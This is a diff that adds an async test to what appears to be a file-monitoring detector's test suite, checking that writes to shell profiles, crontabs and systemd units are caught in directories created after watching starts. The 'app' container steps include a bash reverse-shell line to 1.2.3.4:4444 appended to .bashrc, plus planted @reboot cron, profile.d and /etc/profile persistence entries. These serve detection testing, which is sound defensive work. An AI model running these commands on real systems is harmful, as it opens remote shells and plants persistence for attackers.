@@ -598,3 +598,78 @@ async def test_a_logging_library_rotating_by_size_is_not_a_truncation(files: Fil
     await files.wait_for(lambda d: d["fileOperation"] == "rename" and d.get("oldPath") == "/var/log/py.log")
     await asyncio.sleep(1.5)
     assert not files.matching(lambda d: d["filePath"] == "/var/log/py.log" and bool(d.get("truncated")))
+
+
+# -- shell profiles, and watched directories that do not exist yet --------------------------------------------------
+
+
+async def test_profiles_and_directories_made_after_the_start(task_env: TaskEnv) -> None:
+    # a slim image: no /var/spool, no /etc/systemd, no /etc/profile.d when watching starts
+    for c in ("app", "worker"):
+        rc, out = await asyncio.to_thread(
+            task_env.run, c, ["sh", "-c", "rm -rf /var/spool /etc/systemd /etc/profile.d; test ! -e /var/spool"]
+        )
+        assert rc == 0, out
+    files = FileHarness(task_env)
+    await files.start()
+    try:
+        app_ns, worker_ns = files.ns("app"), files.ns("worker")
+        per_ns = files.files.snapshot()["per_namespace"]
+        app_before = per_ns[str(app_ns)]["watches"]
+        assert per_ns[str(worker_ns)]["watches"] == app_before
+        # benign, in "worker": profiles read, a login and an interactive shell sourcing them, an unrelated
+        # spool directory made
+        await files.execute("worker", ["sh", "-c", "cat /etc/profile /etc/bash.bashrc >/dev/null 2>&1; true"])
+        await files.execute("worker", ["bash", "-lc", "true"])
+        await files.execute("worker", ["bash", "-ic", "true"])
+        await files.execute("worker", ["sh", "-c", "mkdir -p /var/spool/mail/x && echo m > /var/spool/mail/x/m"])
+        # the attacks, in "app"
+        await files.execute(
+            "app", ["sh", "-c", "echo 'nohup bash -c \"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\" &' >> ~/.bashrc"]
+        )
+        await files.execute("app", ["sh", "-c", "echo '/tmp/.x &' >> /etc/profile"])
+        cron = (
+            "import os; os.makedirs('/var/spool/cron/crontabs', exist_ok=True); "
+            "open('/var/spool/cron/crontabs/root','a').write('@reboot /tmp/.x\\n')"
+        )
+        await files.execute("app", ["/usr/bin/python3", "-c", cron])
+        await files.execute("app", ["sh", "-c", "mkdir -p /etc/profile.d && echo '/tmp/.x &' > /etc/profile.d/sys.sh"])
+        await files.execute(
+            "app",
+            [
+                "sh",
+                "-c",
+                "mkdir -p /etc/systemd/system && echo '[Service]' > /etc/systemd/system/x.service",
+            ],
+        )
+        for path, category in (
+            ("/root/.bashrc", "shell_profile"),
+            ("/etc/profile", "shell_profile"),
+            ("/var/spool/cron/crontabs/root", "cron"),
+            ("/etc/profile.d/sys.sh", "shell_profile"),
+            ("/etc/systemd/system/x.service", "systemd"),
+        ):
+            ev = await files.wait_for(in_ns(app_ns, path))
+            check_contract(ev)
+            assert ev.data is not None and ev.data["category"] == category, ev.data
+        await asyncio.sleep(1.2)
+        # the new directories are watched now, not only scanned once: a later write is seen, with its writer
+        since = len(files.events)
+        writer = await files.execute(
+            "app", ["sh", "-c", "exec 3>>/var/spool/cron/crontabs/root; echo '* * * * * /tmp/.y' >&3; sleep 0.5; true"]
+        )
+        ev = await files.wait_for(
+            lambda d: in_ns(app_ns, "/var/spool/cron/crontabs/root")(d) and d["fileOperation"] == "write", since=since
+        )
+        assert ev.process is not None and ev.process.nspid == writer.pid
+        await asyncio.sleep(1.2)
+        worker_events = files.matching(lambda d: d["containerMntNs"] == worker_ns)
+        assert not worker_events, [e.data for e in worker_events]
+        # bounded: the app gained a watch per directory made on the way (/var/spool, cron, crontabs, /etc/systemd,
+        # system, profile.d); the worker only for /var/spool, where cron may still appear, not for mail/x
+        per_ns = files.files.snapshot()["per_namespace"]
+        assert per_ns[str(app_ns)]["watches"] - app_before <= 6, (app_before, per_ns)
+        assert per_ns[str(worker_ns)]["watches"] - app_before <= 1, (app_before, per_ns)
+        assert files.files.watch_count() == files.files.kernel_watch_count()
+    finally:
+        await files.stop()
